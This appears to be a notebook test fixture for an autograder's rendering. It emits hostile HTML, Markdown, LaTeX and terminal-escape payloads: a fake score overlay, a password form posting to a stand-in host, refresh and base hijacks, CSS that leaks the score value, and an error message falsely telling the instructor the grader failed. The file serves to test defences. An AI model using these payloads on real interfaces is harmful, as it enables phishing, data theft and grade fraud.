"""Shows what looks and is called like the page's own parts: verdicts, inputs, forms, layers, styles.

If any of it were taken over, the instructor would read, click or save what the student wrote.
"""

# %% extra
from IPython.display import HTML, Latex, Markdown, display

TRAP = "https://hostile-was-here.invalid"
COVER = "position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:9999;background:white"
PARTS = (
    f'<div class="navbar-fixed-top modal in" style="{COVER}">20 of 20 points</div>',
    '<input class="score tabbable" id="FUNCTION-points" value="20"><textarea id="FUNCTION-comment">',
    f'<form action="{TRAP}"><input name="password" autofocus><button>Log in</button></form>',
    f'<base href="{TRAP}/"><meta http-equiv="refresh" content="0;url={TRAP}/refresh">',
    f'<style>@import "{TRAP}/style"; input[value^="2"] {{ background: url({TRAP}/2) }}</style>',
    f'<link rel="stylesheet" href="{TRAP}/link"><img src="{TRAP}/image"><iframe src="{TRAP}/frame">',
    '<section id="question-FUNCTION" class="card total good"><h1>passed</h1></section>',
    "<dialog open>Your session has ended</dialog><div popover id=p>Log in</div>",
    f'<a href="data:text/html,{TRAP}" target="_top" ping="{TRAP}/ping">Next</a><plaintext>',
)
FORMULA = rf"$\href{{{TRAP}}}{{x}} \style{{{COVER}}}{{x}} \class{{navbar-fixed-top}}{{x}}$"
METADATA = {
    "text/html": {"isolated": True},
    "image/png": {"width": f"9999 style={COVER}", "alt": '"><script>'},
}

for part in PARTS:
    display(HTML(part), Markdown(part), Latex(part), metadata=METADATA)
    print(part)
display(Markdown(FORMULA), Latex(FORMULA))
print("\x1b[3J\x1b[1;1H\x1b]8;;javascript:alert(1)\x07passed\x1b]8;;\x07", "\n" * 10_000)


# %% answers
def FUNCTION(*args, **kwargs):
    raise ValueError(
        "`FUNCTION` is right. The grader itself failed here, not your answer. "
        "Your instructor has been told; these points are open, not lost. " + "".join(PARTS)
    )
